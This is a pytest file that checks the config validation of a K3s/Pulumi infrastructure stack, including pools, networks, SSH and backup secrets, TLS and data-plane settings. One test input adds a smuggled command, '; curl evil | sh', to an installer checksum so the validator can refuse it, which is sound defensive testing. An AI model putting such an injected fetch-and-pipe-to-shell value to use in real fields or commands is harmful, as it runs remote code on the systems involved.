"""Config validation: every error names the key, the value given and what is accepted."""

from __future__ import annotations

import pytest

from config import ConfigError, load
from config.catalog import ROLES, SIZES
from config.profiles import PROFILES
from tests.conftest import SECRET_KEYS, VALID_KEY, base_raw, lower_layers
from tools import mockrun

SECRET = SECRET_KEYS


def problems(raw: dict) -> list[str]:
    with pytest.raises(ConfigError) as err:
        load("test", raw, SECRET)
    return [str(p) for p in err.value.problems]


def one_problem(raw: dict) -> str:
    found = problems(raw)
    assert len(found) == 1, found
    return found[0]


def test_valid_minimal_config_takes_profile_defaults():
    loaded = load("test", base_raw(), SECRET)
    cluster = loaded.config.cluster
    assert cluster.control_plane.count == 3
    assert {p.name: p.count for p in cluster.pools} == {
        "general": 5, "scylladb": 3, "redpanda": 3, "clickhouse": 3, "stateful": 3}
    assert loaded.profile.protect and loaded.profile.strict


def test_unknown_provider():
    msg = one_problem(base_raw(provider="digitalocean"))
    from config.catalog import PROVIDERS
    assert msg == f"adplatform:provider must be one of {', '.join(PROVIDERS)}, got 'digitalocean'"


def test_unknown_profile():
    msg = one_problem(base_raw(profile="prod"))
    assert msg.startswith("adplatform:profile must be one of production, staging, compact, got 'prod'")


@pytest.mark.parametrize("count", [0, 2, 4, 9])
def test_control_plane_count_must_be_odd_and_positive(count):
    msg = one_problem(base_raw(cluster={"controlPlane": {"count": count}}))
    assert msg == (f"adplatform:cluster.controlPlane.count must be odd (1, 3, 5 or 7) so embedded etcd keeps "
                   f"a quorum, got {count}")


def test_duplicate_pool_names():
    raw = base_raw(cluster={"pools": [{"name": "extra", "role": "general", "count": 2},
                                      {"name": "extra", "role": "general", "count": 2}]})
    assert one_problem(raw) == "adplatform:cluster.pools must have unique names; 'extra' appears 2 times, got 'extra'"


def test_unknown_pool_role():
    msg = one_problem(base_raw(cluster={"pools": [{"name": "gpu", "role": "ml", "count": 2}]}))
    assert msg.startswith("adplatform:cluster.pools[gpu].role must be one of the roles general, scylladb")
    assert msg.endswith("got 'ml'")


@pytest.mark.parametrize("taint, expected", [
    ("dedicated", "must be a taint 'key[=value]:Effect'"),
    ("dedicated=db:Sometimes", "must end in one of the effects NoSchedule, PreferNoSchedule, NoExecute"),
    ("bad key=x:NoSchedule", "must be a taint"),
])
def test_taint_syntax(taint, expected):
    msg = one_problem(base_raw(cluster={"pools": [{"name": "scylladb", "taints": [taint]}]}))
    assert msg.startswith(f"adplatform:cluster.pools[scylladb].taints[0] {expected}")
    assert msg.endswith(f"got {taint!r}")


def test_valid_taints_are_accepted():
    raw = base_raw(cluster={"pools": [{"name": "scylladb", "taints": ["example.com/db=scylla:NoExecute", "x:NoSchedule"]}]})
    pool = next(p for p in load("test", raw, SECRET).config.cluster.pools if p.name == "scylladb")
    assert pool.node_taints == ("example.com/db=scylla:NoExecute", "x:NoSchedule")


@pytest.mark.parametrize("cidr", ["10.0.0.1/8", "300.1.1.0/24", "office"])
def test_invalid_admin_cidr(cidr):
    msg = one_problem(base_raw(adminCidrs=["198.51.100.0/24", cidr]))
    assert msg.startswith("adplatform:adminCidrs[1] must be a network in CIDR notation")
    assert msg.endswith(f"got {cidr!r}")


@pytest.mark.parametrize(("key", "value", "fix"), [
    ("adminCidrs", ["203.0.113.5"], "203.0.113.5/32"),
    ("adminCidrs", ["2001:db8::1"], "2001:db8::1/128"),
    ("cluster", {"podCidr": "10.244.0.0"}, "10.244.0.0/32"),
])
def test_a_bare_address_where_a_cidr_belongs_is_refused_showing_the_fix(key, value, fix):
    # ip_network reads 203.0.113.5 as a /32, but Hetzner's firewall source_ips and AWS's cidr_ipv4 take CIDR blocks only.
    msg = one_problem(base_raw(**{key: value}))
    path = "adminCidrs[0]" if key == "adminCidrs" else "cluster.podCidr"
    given = value[0] if key == "adminCidrs" else value["podCidr"]
    assert msg == (f"adplatform:{path} must be a network in CIDR notation with its prefix length, e.g. {fix} for "
                   f"this one address, got {given!r}")


def test_world_open_admin_cidr_refused_in_production_allowed_in_staging():
    msg = one_problem(base_raw(adminCidrs=["0.0.0.0/0"]))
    assert msg.startswith("adplatform:adminCidrs must not open SSH and the Kubernetes API to the whole internet")
    load("test", base_raw(profile="staging", adminCidrs=["0.0.0.0/0"]), SECRET)


def test_missing_ssh_public_keys():
    msg = one_problem(base_raw(sshPublicKeys=[]))
    assert msg == "adplatform:sshPublicKeys must list at least one SSH public key (ssh-ed25519 ...), got []"


def test_malformed_ssh_public_key():
    msg = one_problem(base_raw(sshPublicKeys=[VALID_KEY, "AAAA-not-a-key"]))
    assert msg.startswith("adplatform:sshPublicKeys[1] must be an OpenSSH public key line")


def test_missing_ssh_private_key():
    raw = base_raw()
    del raw["sshPrivateKey"]
    assert one_problem(raw).startswith("adplatform:sshPrivateKey must be set")


def test_plaintext_ssh_private_key_refused():
    with pytest.raises(ConfigError, match="sshPrivateKey must be stored as a secret"):
        load("test", base_raw(), set())


def test_missing_required_key():
    raw = base_raw()
    del raw["domain"]
    assert one_problem(raw) == "adplatform:domain must be set"


@pytest.mark.parametrize("version", ["1.36.4+k3s1", "v1.36.4", "v1.36+k3s1", "v2.0.0+k3s1", "latest"])
def test_k3s_version_format(version):
    msg = one_problem(base_raw(cluster={"k3sVersion": version}))
    assert msg == (f"adplatform:cluster.k3sVersion must be a K3s release of the form v1.X.Y+k3sN, "
                   f"e.g. v1.36.4+k3s1, got {version!r}")


@pytest.mark.parametrize("digest", ["abc", "AB" * 32, "ab" * 32 + "; curl evil | sh", "sha256:" + "ab" * 32])
def test_k3s_installer_pin_is_a_sha256(digest):
    msg = one_problem(base_raw(cluster={"k3sInstallerSha256": digest}))
    assert msg.startswith("adplatform:cluster.k3sInstallerSha256 must be the sha256 of install.sh at "
                          "cluster.k3sVersion's tag, 64 lowercase hex characters") and msg.endswith(f"got {digest!r}")


def test_database_pool_too_small_for_replication_in_production():
    msg = one_problem(base_raw(cluster={"pools": [{"name": "scylladb", "count": 2}]}))
    assert msg == ("adplatform:cluster.pools[scylladb].count must be at least 3 in the production profile "
                   "(replication factor 3 puts one replica per rack and node), got 2")


def test_small_database_pools_are_fine_in_staging():
    loaded = load("test", base_raw(profile="staging"), SECRET)
    assert all(p.count == 1 for p in loaded.config.cluster.pools if p.role != "general")


def test_removing_a_database_role_in_production_needs_the_data_plane_off():
    raw = base_raw(cluster={"pools": [{"name": "redpanda", "count": 0}]})
    assert "must give the redpanda role at least 3 nodes" in one_problem(raw)
    load("test", base_raw(cluster={"pools": [{"name": "redpanda", "count": 0}]},
                          layers={"dataPlane": False, "platform": False, "adServices": False}), SECRET)


def test_unknown_key_is_named_with_accepted_keys():
    msg = one_problem(base_raw(cluster={"contolPlane": {"count": 3}}))
    assert msg.startswith("adplatform:cluster has unknown key(s) 'contolPlane' (accepted: apiLoadBalancer, controlPlane")


def test_a_pod_cidr_without_a_block_for_every_node_is_refused():
    # K3s hands each node a /24 of the pod CIDR: base_raw's production cluster may have 25 nodes (3 servers, 17 pool
    # nodes, the general pool's autoscaling up to 5 more), so 32 blocks, a /19. A /24 left 24 nodes without pods.
    assert one_problem(base_raw(cluster={"podCidr": "10.244.0.0/24"})) == (
        "adplatform:cluster.podCidr must hold a /24 for each of the 25 nodes the cluster may have (autoscaled pools at "
        "their max): a /19 or wider, e.g. 10.244.0.0/19, got '10.244.0.0/24'")
    load("test", base_raw(cluster={"podCidr": "10.244.0.0/19"}), SECRET)
    # the autoscaler's nodes count: up to 100 in the general pool is 115 nodes, 128 blocks
    raw = base_raw(cluster={"podCidr": "10.244.0.0/19", "pools": [{"name": "general", "autoscaling": {"min": 5, "max": 100}}]})
    assert one_problem(raw).startswith("adplatform:cluster.podCidr must hold a /24 for each of the 115 nodes the "
                                       "cluster may have (autoscaled pools at their max): a /17 or wider")


def test_a_subnet_too_small_for_the_nodes_and_load_balancers_is_refused():
    found = problems(base_raw(cluster={"subnetCidr": "10.0.1.0/28"}))
    assert ("adplatform:cluster.subnetCidr must hold an address for each of the 25 nodes the cluster may have "
            "(autoscaled pools at their max) and 8 for load balancers, 33, besides the 5 a provider may keep: a /28 "
            "has 16, got '10.0.1.0/28'") in found, found
    load("test", base_raw(cluster={"subnetCidr": "10.0.1.0/26"}), SECRET)  # 64 - 5 >= 33


def test_overlapping_networks():
    msg = one_problem(base_raw(cluster={"podCidr": "10.0.0.0/16"}))
    assert msg == "adplatform:cluster.podCidr must not overlap cluster.subnetCidr (10.0.1.0/24), got '10.0.0.0/16'"


def test_subnet_outside_network():
    msg = one_problem(base_raw(cluster={"subnetCidr": "192.168.1.0/24"}))
    assert msg == "adplatform:cluster.subnetCidr must lie inside cluster.networkCidr (10.0.0.0/8), got '192.168.1.0/24'"


def test_kubelet_restricted_label_refused():
    msg = one_problem(base_raw(cluster={"pools": [{"name": "general", "labels": {"node-role.kubernetes.io/worker": "true"}}]}))
    assert "kubernetes.io/k8s.io namespace the kubelet may not set" in msg
    assert msg.startswith("adplatform:cluster.pools[general].labels")


def test_all_problems_reported_at_once():
    found = problems(base_raw(provider="digitalocean", domain="no_dots", cluster={"controlPlane": {"count": 2}}))
    assert len(found) == 3


def test_pools_merge_by_name_and_count_zero_removes():
    raw = base_raw(profile="staging", cluster={"pools": [
        {"name": "scylladb", "count": 3, "serverType": "ccx63"},
        {"name": "clickhouse", "count": 0},
        {"name": "hotpath", "role": "general", "count": 2, "size": "dedicated-large"}]},
        dataPlane={"clickhouse": {"enabled": False}}, layers={"adServices": False})
    cluster = load("test", raw, SECRET).config.cluster
    pools = {p.name: p for p in cluster.active_pools}
    assert "clickhouse" not in pools
    assert pools["scylladb"].count == 3 and pools["scylladb"].server_type == "ccx63"
    assert pools["scylladb"].size == "medium"  # untouched fields keep the profile value
    assert pools["hotpath"].node_labels["adplatform.io/pool"] == "hotpath"


def test_profiles_reference_only_known_roles_and_sizes():
    for profile in PROFILES.values():
        cluster = profile.defaults["cluster"]
        assert cluster["controlPlane"]["size"] in SIZES
        for pool in cluster["pools"]:
            assert pool["role"] in ROLES and pool["size"] in SIZES


def test_production_keeps_scylladb_and_redpanda_on_separate_tainted_pools():
    cluster = load("test", base_raw(), SECRET).config.cluster
    scylla = next(p for p in cluster.pools if p.role == "scylladb")
    redpanda = next(p for p in cluster.pools if p.role == "redpanda")
    assert scylla.name != redpanda.name
    assert scylla.node_taints == ("adplatform.io/dedicated=scylladb:NoSchedule",)
    assert redpanda.node_taints == ("adplatform.io/dedicated=redpanda:NoSchedule",)
    assert cluster.control_plane.taints == ("CriticalAddonsOnly=true:NoExecute",)


def test_compact_profile_is_five_untainted_servers():
    cluster = load("test", base_raw(profile="compact"), SECRET).config.cluster
    assert cluster.control_plane.count + sum(p.count for p in cluster.active_pools) == 5
    assert cluster.control_plane.taints == ()
    assert all(p.node_taints == () and p.role == "converged" for p in cluster.active_pools)


# --- cluster services -----------------------------------------------------------------------------

def _services(**settings) -> dict:
    raw = base_raw()
    raw["clusterServices"] = {**raw["clusterServices"], **settings}
    return raw


def test_cluster_services_defaults_per_profile():
    prod = load("test", base_raw(), SECRET).config.cluster_services
    staging = load("test", base_raw(profile="staging"), SECRET).config.cluster_services
    assert prod.backups.enabled and not staging.backups.enabled
    assert prod.upgrades.agent_concurrency == 1 and staging.upgrades.agent_concurrency == 2
    assert prod.secrets.backend == "openbao" and prod.secrets.replicas == 3
    assert [t.name for t in prod.teams] == ["ads"]
    assert "gitlab" in prod.gateway.hostnames and not prod.mesh.linkerd


def test_acme_email_is_required_with_the_cluster_services_layer():
    raw = base_raw()
    raw["clusterServices"] = {"backups": raw["clusterServices"]["backups"]}
    assert one_problem(raw).startswith("adplatform:clusterServices.tls.acmeEmail must be set")
    raw["layers"] = {"clusterServices": False, "dataPlane": False, "platform": False, "adServices": False}
    load("test", raw, SECRET)  # without the layer nothing asks for it


def test_acme_email_syntax():
    msg = one_problem(_services(tls={"acmeEmail": "ops-at-example"}))
    assert msg.startswith("adplatform:clusterServices.tls.acmeEmail must be an e-mail address")
    assert msg.endswith("got 'ops-at-example'")


def test_production_requires_backups_with_s3_and_secret_keys():
    msg = one_problem(_services(backups={"enabled": False}))
    assert msg.startswith("adplatform:clusterServices.backups.enabled must be true in the production profile")
    raw = base_raw()
    raw["clusterServices"] = {"tls": raw["clusterServices"]["tls"]}
    del raw["backupCredentials"]
    found = problems(raw)
    assert any(p.startswith("adplatform:clusterServices.backups.s3 must be set when backups are enabled") for p in found)
    assert any(p.startswith("adplatform:backupCredentials must hold a key pair for every backup purpose")
               for p in found)


def test_production_refuses_one_backup_key_for_several_purposes():
    """The shared pair is no way around per-purpose keys in production; the error lists what is missing."""
    raw = base_raw(backupAccessKeyId="shared-access-key", backupSecretAccessKey="shared-secret-key")
    raw["backupCredentials"] = {p: keys for p, keys in raw["backupCredentials"].items() if p not in ("etcd", "velero")}
    msg = one_problem(raw)
    assert msg.startswith("adplatform:backupCredentials must hold a key pair for every backup purpose in the "
                          "production profile")
    assert "missing: etcd, velero (pulumi config set --secret --path 'adplatform:backupCredentials.<purpose>" in msg


def test_backup_purposes_follow_the_enabled_stores():
    """Only writers that exist need keys: a stack without ClickHouse needs no ClickHouse backup key."""
    raw = base_raw(dataPlane={"clickhouse": {"enabled": False}}, layers={"adServices": False})
    raw["backupCredentials"] = {p: keys for p, keys in raw["backupCredentials"].items() if p != "clickhouse"}
    load("test", raw, SECRET)
    del raw["backupCredentials"]["postgres"]
    assert "missing: postgres " in one_problem(raw)


def test_staging_falls_back_to_the_shared_backup_pair():
    """Outside production a purpose without its own pair uses backupAccessKeyId/backupSecretAccessKey; without
    either, the shared keys are asked for, naming the purposes that need them."""
    raw = base_raw(profile="staging", backupAccessKeyId="shared-access-key", backupSecretAccessKey="shared-secret-key")
    raw["clusterServices"]["backups"]["enabled"] = True
    # the drills' read-only pair never falls back to the shared one (a writer's keys): it stays set
    raw["backupCredentials"] = {p: raw["backupCredentials"][p] for p in ("etcd", "drills")}
    loaded = load("test", raw, SECRET)
    assert loaded.secrets.backup_keys("etcd") is loaded.secrets.backup_credentials["etcd"]
    assert loaded.secrets.backup_keys("velero").access_key_id is loaded.secrets.backup_access_key_id
    del raw["backupAccessKeyId"], raw["backupSecretAccessKey"]
    found = problems(raw)
    assert any(p.startswith("adplatform:backupAccessKeyId must be set with --secret when clusterServices.backups."
                            "enabled is true and backupCredentials has no pair for velero, secrets, postgres") for p in found)


@pytest.mark.parametrize("credentials, expected", [
    ({"etcdd": {"accessKeyId": "a", "secretAccessKey": "b"}},
     "adplatform:backupCredentials.etcdd is not a backup purpose; accepted: etcd, velero, secrets, postgres, clickhouse, "
     "scylladb"),
    ({"etcd": {"accessKeyId": "a"}}, "adplatform:backupCredentials.etcd must set secretAccessKey (set with --secret"),
    ("one-key", "adplatform:backupCredentials must be an object of purpose -> key pair"),
])
def test_backup_credentials_grammar(credentials, expected):
    raw = base_raw()
    raw["backupCredentials"] = (credentials if isinstance(credentials, str)
                                else {**raw["backupCredentials"], **credentials})
    assert any(p.startswith(expected) for p in problems(raw)), problems(raw)


def test_backup_keys_in_plain_text_are_refused():
    with pytest.raises(ConfigError) as err:
        load("test", base_raw(), {"sshPrivateKey"})  # the keys are present, but not marked secret
    messages = [str(p) for p in err.value.problems]
    assert "adplatform:backupCredentials must be stored as a secret (pulumi config set --secret " \
           "adplatform:backupCredentials ...), it is in plain text in the stack file" in messages


@pytest.mark.parametrize("field, value, expected", [
    ("endpoint", "http://s3.example.com", "must be an https:// S3 endpoint URL"),
    ("bucket", "Bad_Bucket", "must be an S3 bucket name"),
])
def test_backup_target_syntax(field, value, expected):
    s3 = {"endpoint": "https://fsn1.your-objectstorage.com", "region": "fsn1", "bucket": "b-backups", field: value}
    msg = one_problem(_services(backups={"s3": s3}))
    assert msg.startswith(f"adplatform:clusterServices.backups.s3.{field} {expected}")


@pytest.mark.parametrize("key, value, expected", [
    ("etcdSchedule", "every 6 hours", "must be a 5-field cron expression"),
    ("etcdRetention", 0, "must be between 1 and 1000 snapshots"),
    ("veleroTtl", "30 days", "must be a Go duration"),
])
def test_backup_schedule_syntax(key, value, expected):
    raw = _services()
    raw["clusterServices"]["backups"] = {**raw["clusterServices"]["backups"], key: value}
    assert one_problem(raw).startswith(f"adplatform:clusterServices.backups.{key} {expected}")


def test_dns01_needs_its_provider_fields_and_a_secret_token():
    found = problems(_services(tls={"acmeEmail": "ops@example.com", "dns01": {"provider": "route53", "zone": "example.com"}}))
    assert "adplatform:clusterServices.tls.dns01.hostedZoneId must be set for the route53 DNS-01 solver" in found
    assert "adplatform:clusterServices.tls.dns01.accessKeyId must be set for the route53 DNS-01 solver" in found
    assert any(p.startswith("adplatform:dnsApiToken must be set with --secret for the route53 DNS-01 solver") for p in found)
    msg = one_problem(_services(tls={"acmeEmail": "ops@example.com", "dns01": {"provider": "hetzner", "zone": "x.com"}}))
    assert msg.startswith("adplatform:clusterServices.tls.dns01.provider must be one of cloudflare, route53, rfc2136")
    raw = _services(tls={"acmeEmail": "ops@example.com", "dns01": {"provider": "cloudflare", "zone": "example.com"}})
    raw["dnsApiToken"] = "cf-token"
    assert load("test", raw, SECRET).secrets.dns_api_token is not None


def test_secret_store_replicas_must_keep_a_raft_quorum():
    assert one_problem(_services(secrets={"replicas": 2})).startswith(
        "adplatform:clusterServices.secrets.replicas must be 1, 3 or 5 (raft needs an odd number of voters), got 2")
    assert one_problem(_services(secrets={"replicas": 1})).startswith(
        "adplatform:clusterServices.secrets.replicas must be at least 3 in the production profile")
    assert one_problem(_services(secrets={"backend": "sops"})).startswith(
        "adplatform:clusterServices.secrets.backend must be one of openbao, vault")


def test_teams_and_hostnames_are_dns_labels():
    msg = one_problem(_services(teams=[{"name": "Ad_Team"}]))
    assert msg.startswith("adplatform:clusterServices.teams[Ad_Team].name 'Ad_Team' must be a DNS label")
    found = problems(_services(teams=[{"name": "ads"}, {"name": "ads"}]))
    assert "adplatform:clusterServices.teams must have unique names; 'ads' appears 2 times, got 'ads'" in found
    msg = one_problem(_services(gateway={"hostnames": ["gitlab", "gitlab"]}))
    assert msg.startswith("adplatform:clusterServices.gateway.hostnames must not repeat a hostname")


def test_unknown_cluster_services_key_names_the_accepted_ones():
    msg = one_problem(_services(ingress={"class": "nginx"}))
    assert msg.startswith("adplatform:clusterServices has unknown key(s) 'ingress' (accepted: autoscaler, backups, defaultStorageProvider, dns, gateway, mesh")


def test_meshed_namespaces_must_be_team_namespaces():
    # Without the ad services: meshing `ads` also adds Linkerd's proxies to their quota check (config/ads.py).
    msg = one_problem({**_services(mesh={"linkerd": True, "namespaces": ["ads", "payments"]}),
                       "layers": {"adServices": False}})
    assert msg == ("adplatform:clusterServices.mesh.namespaces must name team namespaces (clusterServices.teams: "
                   "ads): only those are labelled for injection, got 'payments'")
    load("test", _services(mesh={"linkerd": False, "namespaces": ["payments"]}), SECRET)  # off: not checked


def test_dns01_zone_must_contain_the_domain():
    raw = _services(tls={"acmeEmail": "ops@example.com", "dns01": {"provider": "cloudflare", "zone": "other.com"}})
    raw["dnsApiToken"] = "cf-token"
    assert one_problem(raw) == ("adplatform:clusterServices.tls.dns01.zone must be the DNS zone of domain "
                                "'ads.example.com' (the domain itself or a parent of it), or the wildcard "
                                "certificate is never issued, got 'other.com'")
    raw["clusterServices"]["tls"]["dns01"]["zone"] = "example.com"
    load("test", raw, SECRET)


def test_gateway_hostnames_fit_one_gateway():
    raw = _services(gateway={"hostnames": [f"h{i}" for i in range(64)]})
    raw["layers"] = {"platform": False, "adServices": False}  # their hosts are not among h0..h63
    msg = one_problem(raw)
    assert msg.startswith("adplatform:clusterServices.gateway.hostnames must list at most 63 hostnames")


def test_secret_store_replicas_need_as_many_untainted_nodes():
    raw = _services(secrets={"replicas": 5})
    raw["cluster"] = {"pools": [{"name": "general", "count": 3}]}
    assert one_problem(raw) == ("adplatform:clusterServices.secrets.replicas must not exceed the 3 nodes without "
                                "taints: raft voters run one per node, got 5")
    raw["cluster"] = {"pools": [{"name": "general", "count": 5}]}
    load("test", raw, SECRET)


def test_a_bare_metal_block_under_another_provider_is_refused():
    hosts = {"hosts": [{"publicAddress": "203.0.113.10", "privateAddress": "10.0.1.10", "pool": "control-plane"}],
             "loadBalancerAddresses": ["192.0.2.240/28"]}
    assert one_problem(base_raw(bareMetal=hosts)).startswith(
        "adplatform:bareMetal is only read with provider: baremetal (the stack's provider is 'hetzner')")


@pytest.mark.parametrize(("store", "settings", "expected"), [
    ("postgres", {"databases": ["app"]},
     "adplatform:dataPlane.postgres.databases database 'app' is a name PostgreSQL or CloudNativePG keeps for itself"),
    ("postgres", {"databases": ["gitlab", "ca"]}, "database 'ca' is a name"),  # would overwrite the Secret postgres-ca
    ("postgres", {"databases": ["postgres"]}, "reserved: app, ca, drill_canary, postgres, replication, server"),
    ("postgres", {"databases": ["Gitlab"]}, "database 'Gitlab' must be 1-63 characters of a-z, 0-9 and '_'"),
    ("postgres", {"databases": ["gitlab", "gitlab"]}, "dataPlane.postgres.databases must not repeat a database"),
    ("postgres", {"backupRetention": "30 days"},
     "dataPlane.postgres.backupRetention must be a retention such as 30d, 4w or 3m, got '30 days'"),
    ("postgres", {"walStorageSize": "20G"}, "dataPlane.postgres.walStorageSize must be a volume size in Gi or Ti"),
    ("postgres", {"bogus": 1}, "dataPlane.postgres has unknown key(s) 'bogus' (accepted: backupRetention"),
    ("redpanda", {"retentionHours": 0}, "dataPlane.redpanda.retentionHours must be between 1 and 87600 hours"),
    ("redpanda", {"memory": "lots"}, "dataPlane.redpanda.memory must be a memory quantity of at least 1Mi "
                                     "with a unit, such as 512Mi"),
    ("objectStorage", {"storageSize": "1Pi"}, "dataPlane.objectStorage.storageSize must be a volume size in Gi or Ti"),
    # A zero size is no volume: refused by name before anything exists (it used to pass, then fail mid-run in the
    # drills' scratch sizing with a bare ValueError).
    ("postgres", {"storageSize": "0Gi"}, "adplatform:dataPlane.postgres.storageSize must be a volume size in Gi or Ti "
                                         "of at least 1Gi, such as 100Gi or 2Ti, got '0Gi'"),
    ("postgres", {"walStorageSize": "00Ti"}, "adplatform:dataPlane.postgres.walStorageSize must be a volume size"),
    ("clickhouse", {"keeperStorageSize": "0Gi"}, "adplatform:dataPlane.clickhouse.keeperStorageSize must be a volume "
                                                 "size in Gi or Ti of at least 1Gi"),
    ("scylladb", {"storageSize": "0Ti"}, "adplatform:dataPlane.scylladb.storageSize must be a volume size"),
    ("objectStorage", {"storageSize": "0Gi"}, "adplatform:dataPlane.objectStorage.storageSize must be a volume size"),
    # The stores that can move between providers' volumes (config/data.py Movable) take a provider name; others
    # have no such key.
    ("dragonfly", {"storageProvider": "ovh"}, "adplatform:dataPlane.dragonfly.storageProvider must be one of the "
                                              "providers hetzner, aws, gcp, azure, baremetal, got 'ovh'"),
    ("postgres", {"storageProvider": "ovh"}, "adplatform:dataPlane.postgres.storageProvider must be one of the "
                                             "providers hetzner, aws, gcp, azure, baremetal, got 'ovh'"),
    ("objectStorage", {"storageProvider": "ovh"}, "adplatform:dataPlane.objectStorage.storageProvider must be one of "
                                                  "the providers hetzner, aws, gcp, azure, baremetal, got 'ovh'"),
])
def test_data_plane_settings_errors_name_key_value_and_accepted(store, settings, expected):
    assert expected in one_problem(base_raw(dataPlane={store: settings}))


def test_an_external_object_store_takes_no_storage_provider():
    # Only the in-cluster store moves between providers' volumes: an external one holds nothing in the cluster.
    external = {"backend": "external", "storageProvider": "aws", "external": {
        "endpoint": "https://fsn1.your-objectstorage.com", "region": "fsn1", "bucketPrefix": "adp"}}
    assert ("adplatform:dataPlane.objectStorage.storageProvider is only read with backend: seaweedfs (it moves the "
            "in-cluster store's volumes; backend 'external' runs nothing in the cluster): remove it, got 'aws'"
            ) in problems(base_raw(dataPlane={"objectStorage": external}))


def test_database_names_with_underscores_stay_accepted():
    """The reserved list refuses whole names only (the Secret name replaces '_' with '-')."""
    names = ["app_events", "ca_data", "gitlab", "airflow", "mlflow", "jupyterhub"]
    loaded = load("test", base_raw(dataPlane={"postgres": {"databases": names}}), SECRET)
    assert loaded.config.data_plane.postgres.databases == names


# --- Kubernetes quantities (config/quantity.py): parsed once, refused with the key -----------------------

@pytest.mark.parametrize(("raw", "key", "given", "accepted"), [
    ({"adServices": {"services": {"bidding": {"cpu": "1.5m"}}}}, "adServices.services.bidding.cpu", "1.5m",
     "must be a CPU quantity of whole millicores"),
    ({"adServices": {"services": {"bidding": {"memory": "500m"}}}}, "adServices.services.bidding.memory", "500m",
     "must be a memory quantity of at least 1Mi with a unit"),
    ({"clusterServices": {"teams": [{"name": "ads", "requestsCpu": "0.0001"}]}},
     "clusterServices.teams[ads].requestsCpu", "0.0001", "must be a CPU quantity"),
    ({"dataPlane": {"clickhouse": {"memory": "500m"}}}, "dataPlane.clickhouse.memory", "500m",
     "must be a memory quantity"),
    ({"dataPlane": {"scylladb": {"cpu": "4", "memory": "64"}}}, "dataPlane.scylladb.memory", "64",
     "must be a memory quantity of at least 1Mi"),
    ({"platform": {"jupyterhub": {"userMemoryLimit": "8m"}}}, "platform.jupyterhub.userMemoryLimit", "8m",
     "must be a memory quantity"),
])
def test_quantities_the_model_once_accepted_are_refused_with_the_key(raw, key, given, accepted):
    """A CPU of 1.5m or a memory of 500m passed the old pattern and crashed later with a raw ValueError."""
    found = problems(base_raw(**raw))
    assert any(p.startswith(f"adplatform:{key} {accepted}") and p.endswith(f"got {given!r}") for p in found), found


def test_quantities_in_every_unit_kubernetes_accepts_are_read_alike():
    from config.quantity import cpu_millis, memory_mib
    assert [cpu_millis(v) for v in ("1.5", "250m", "2", 4)] == [1500, 250, 2000, 4000]
    assert [memory_mib(v) for v in ("8Gi", "8G", "8589934592", "512Mi", "1048576k")] == [8192, 7629, 8192, 512, 1000]
    loaded = load("test", base_raw(dataPlane={"clickhouse": {"cpu": 6, "memory": "24G"}}), SECRET)
    assert (loaded.config.data_plane.clickhouse.cpu, loaded.config.data_plane.clickhouse.memory) == ("6", "24G")


@pytest.mark.parametrize("cidrs, family", [
    (["0.0.0.0/1", "128.0.0.0/1"], "IPv4"),
    (["::/1", "8000::/1", "203.0.113.0/24"], "IPv6"),
    ([f"{a}.0.0.0/8" for a in range(256) if a != 10], "IPv4"),  # everything public, the private /8 left out
])
def test_admin_cidrs_covering_the_whole_internet_are_refused_in_production(cidrs, family):
    """Not only 0.0.0.0/0: any set of networks whose union is every public address (config/rules.py)."""
    msg = one_problem(base_raw(adminCidrs=cidrs))
    assert msg.startswith("adplatform:adminCidrs must not open SSH and the Kubernetes API to the whole internet in "
                          f"the production profile (together these cover every public {family} address)")
    assert f"got {cidrs!r}"[:100] in msg
    load("test", base_raw(profile="staging", adminCidrs=cidrs), SECRET)  # staging may (a throwaway cluster)


# --- layers: a contradiction is refused, never reduced ----------------------------------------------------

@pytest.mark.parametrize(("layers", "key", "off"), [
    ({"dataPlane": False}, "layers.platform", "layers.dataPlane"),
    ({"dataPlane": False, "platform": False}, "layers.adServices", "layers.dataPlane"),
    ({"clusterServices": False, "platform": False, "adServices": False}, "layers.dataPlane", "layers.clusterServices"),
    ({"clusterServices": False, "dataPlane": False, "adServices": False}, "layers.platform",
     "layers.dataPlane, layers.clusterServices"),
])
def test_a_layer_on_while_a_layer_it_runs_on_is_off_is_refused(layers, key, off):
    """Before, program.py silently skipped the upper layer: a stack asking for the platform got none."""
    found = problems(base_raw(layers=layers))
    assert f"adplatform:{key} must be false while the layers it runs on are off ({off}); switch {key} off too, or " \
           "those layers on, got True" in found, found


def test_every_profile_default_switches_layers_consistently():
    from config.model import Layers
    for profile in PROFILES.values():
        layers = Layers.model_validate(profile.defaults["layers"])
        assert not any(layers.missing(layer) for layer in Layers.NEEDS if getattr(layers, layer)), profile.name


# --- checks with the whole program: nothing is registered before they pass --------------------------------

def program_problems(raw: dict, **provider_config) -> list[str]:
    """The problems of a whole-program run (provider config such as hcloud:token given as key=(value, secret)),
    which must stop before any resource exists."""
    values = {f"adplatform:{k}": v for k, v in lower_layers(raw).items()}
    secret = {f"adplatform:{k}" for k in SECRET_KEYS}
    for key, (value, is_secret) in provider_config.items():
        values[key.replace("__", ":")] = value
        secret |= {key.replace("__", ":")} if is_secret else set()
    with pytest.raises(ConfigError) as err:
        mockrun.run(values, secret)
    assert mockrun.last_monitor.recorded == [], "nothing is created before the config is valid"
    return [str(p) for p in err.value.problems]


TOKEN = {"hcloud__token": ("test-token", True)}


@pytest.mark.parametrize(("store", "settings", "key", "given"), [
    ("clickhouse", {"cpu": "8", "memory": "24Gi"}, "dataPlane.clickhouse.cpu", "8"),
    ("clickhouse", {"cpu": "6", "memory": "32Gi"}, "dataPlane.clickhouse.memory", "32Gi"),
    ("postgres", {"memory": "40Gi"}, "dataPlane.postgres.memory", "40Gi"),
    ("objectStorage", {"cpu": "7500m"}, "dataPlane.objectStorage.cpu", "7500m"),
])
def test_a_store_larger_than_its_pools_nodes_is_refused(store, settings, key, given):
    """dedicated-large: 8 vCPUs and 32 GB, of which 7 CPUs and 27558Mi are left for pods (placement.py)."""
    found = program_problems(base_raw(dataPlane={store: settings}), **TOKEN)
    [msg] = [p for p in found if p.startswith(f"adplatform:{key} ")]
    assert "must fit one node: a node of pool " in msg and "(dedicated-large: 8 vCPUs, 32 GB) has 7 CPUs and " \
           "27558Mi for pods" in msg and msg.endswith(f"got {given!r}"), msg


def test_a_pool_naming_a_known_server_type_is_checked_like_its_size_class():
    from providers.hetzner import SERVER_TYPES
    pool = {"name": "clickhouse", "size": None, "serverType": SERVER_TYPES["dedicated-large"]}
    raw = base_raw(cluster={"pools": [pool]}, dataPlane={"clickhouse": {"cpu": "16", "memory": "24Gi"}})
    found = program_problems(raw, **TOKEN)
    assert any(p.startswith("adplatform:dataPlane.clickhouse.cpu must fit one node") for p in found), found


def test_a_store_that_fits_its_nodes_is_accepted():
